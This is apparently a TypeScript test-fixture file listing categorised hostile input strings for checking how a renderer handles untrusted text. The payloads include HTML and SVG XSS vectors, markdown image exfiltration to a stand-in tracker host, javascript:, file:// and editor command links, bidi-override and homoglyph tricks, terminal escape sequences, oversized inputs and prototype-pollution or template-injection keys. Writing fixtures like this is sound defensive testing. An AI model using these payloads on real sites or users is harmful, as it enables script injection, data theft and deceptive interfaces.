/** What a text may try, by its kind. */
export interface Payload {
  readonly kind: string;
  readonly text: string;
}

const RUN = 'window.pwned=1';
const AWAY = 'https://tracker.invalid/';

/** Characters that are written as escapes, so that this file itself hides nothing. */
const RLO = '\u202e';
const LRI = '\u2066';
const PDI = '\u2069';
const ESC = '\u001b';
const BELL = '\u0007';

const markup = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}p.png">`,
  `<img srcset="${AWAY}p.png 2x">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="${AWAY}s.svg#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${AWAY}o"></object>`,
  `<embed src="${AWAY}e">`,
  `<link rel="stylesheet" href="${AWAY}s.css">`,
  `<link rel="prefetch" href="${AWAY}f">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}">`,
  `<form action="${AWAY}"><input name=q><button>Allow once</button></form>`,
  `<button onclick="${RUN}">Deny</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="${AWAY}a.mp3" autoplay></audio>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<a href="javascript:${RUN}" target=_blank>x</a>`,
  `<isindex type=image src=1 onerror="${RUN}">`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
];

const markdown = [
  `![p](${AWAY}?q=TOKEN)`,
  `![p][1]\n\n[1]: ${AWAY}r.png`,
  `![a](data:image/svg+xml;base64,PHN2Zy8+)`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](  javascript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](command:workbench.action.terminal.new)`,
  `[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D)`,
  `[x](vscode://file/etc/passwd)`,
  `[x](vscode-insiders:extension/x)`,
  `[x](file:///etc/passwd)`,
  `[x](\\\\host\\share)`,
  `[x](//tracker.invalid/x)`,
  `[x](blob:https://panel.invalid/x)`,
  `[x](about:blank)`,
  `[x](<javascript:${RUN}>)`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `<javascript:${RUN}>`,
  `<${AWAY}>`,
  `[${AWAY}good](${AWAY}bad)`,
  `[![p](${AWAY}in.png)](${AWAY}out)`,
  `[x](${AWAY} "onmouseover=${RUN}")`,
  `[x](${AWAY}"onmouseover="${RUN})`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`js"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`../../etc/passwd\nx\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> |\n| --- |\n| [x](javascript:${RUN}) |`,
  `# <svg onload=${RUN}>`,
  `- [ ] <input type=checkbox onclick=${RUN}>`,
  `> <script>${RUN}</script>`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `\\<script>${RUN}\\</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
];

const styles = [
  `<style>*{background:url(${AWAY}c)}</style>`,
  `<style>@import "${AWAY}i.css";</style>`,
  `<div style="background:url(${AWAY}d)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">Allow once</div>`,
  `<p class="card" role="button">Allow once</p>`,
  `<div id="root">x</div>`,
  `<font color="red" size=7>x</font>`,
  `<svg><style>@import "${AWAY}v.css";</style></svg>`,
  `<svg><filter id="f"><feImage href="${AWAY}f.png"/></filter></svg>`,
];

const unicode = [
  `rm -rf ${RLO}gpj.exe`,
  `${LRI}safe${PDI}${RLO}evil`,
  `/* ${RLO} } ${LRI}if (isAdmin)${PDI} ${LRI} begin */`,
  `\u200bzero\u200cwidth\u200d\ufeff`,
  `https://\u0430pple.com/`,
  `[bank](https://xn--pple-43d.com/)`,
  `https://github.com\u2215evil.invalid`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u003c\u0000script>${RUN}`,
  `a\ud83d`,
  `\udc00b`,
  `\u0000\u0001\u0002`,
  `\u2028${RUN}\u2029`,
  `\u034f${'\u0300'.repeat(200)}`,
  `\u{e0041}\u{e0042}\u{e0043}`,
  `\ufff9a\ufffab\ufffb`,
];

const terminal = [
  `${ESC}]0;title${BELL}`,
  `${ESC}]8;;${AWAY}${BELL}click${ESC}]8;;${BELL}`,
  `${ESC}]8;;javascript:${RUN}${BELL}click${ESC}]8;;${BELL}`,
  `${ESC}]52;c;cm0gLXJm${BELL}`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31mred<script>${RUN}</script>${ESC}[0m`,
  `${ESC}[38;5;999999999m<img src=x onerror=${RUN}>`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[${'1;'.repeat(500)}m`,
  `\u009b31m<svg onload=${RUN}>`,
  `a\rb\r<script>${RUN}</script>`,
  `a${'\b'.repeat(300)}b`,
];

const sizes = [
  'x'.repeat(200_000),
  '['.repeat(5_000),
  `${'>'.repeat(500)} deep`,
  `${'- '.repeat(300)}deep`,
  `${'*'.repeat(3_000)}a${'*'.repeat(3_000)}`,
  '`'.repeat(3_000),
  `|${'a|'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n|${'b|'.repeat(1_000)}`,
  '<b>'.repeat(3_000),
  '![a]('.repeat(1_000),
  `${'\n'.repeat(20_000)}end`,
];

const keys = [
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"pwned":1}}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '#{7*7}',
  '{0} {1} %s %d',
];

function ofKind(kind: string, texts: readonly string[]): Payload[] {
  return texts.map((text) => ({ kind, text }));
}

export const PAYLOADS: readonly Payload[] = [
  ...ofKind('HTML', markup),
  ...ofKind('Markdown and links', markdown),
  ...ofKind('CSS and SVG', styles),
  ...ofKind('Unicode', unicode),
  ...ofKind('terminal escapes', terminal),
  ...ofKind('size and depth', sizes),
  ...ofKind('keys and templates', keys),
];
